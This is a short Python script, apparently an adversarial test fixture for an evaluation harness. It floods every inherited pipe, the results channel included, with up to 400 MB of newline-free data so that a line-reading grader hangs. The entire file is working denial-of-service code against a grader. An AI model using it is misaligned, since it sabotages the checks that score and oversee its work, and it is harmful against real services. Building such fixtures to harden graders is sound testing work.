# Attack: a background thread writes one endless line (no newline) into every pipe the process
# holds (the results channel among them): a grader that reads a line to its end never stops.
# Capped at 400 MB so a machine running this against an unbounded grader survives.
import pathlib
import threading

os = pathlib.os


def pipes():
    for fd in pathlib.Path("/proc/self/fd").iterdir():
        try:
            if int(fd.name) > 2 and "pipe:" in os.readlink(fd):
                yield int(fd.name)
        except (OSError, ValueError):
            pass


def flood(fd):
    chunk = b"A" * (1 << 20)
    for _ in range(400):
        try:
            os.write(fd, chunk)
        except OSError:
            return


for fd in list(pipes()):
    threading.Thread(target=flood, args=(fd,), daemon=True).start()
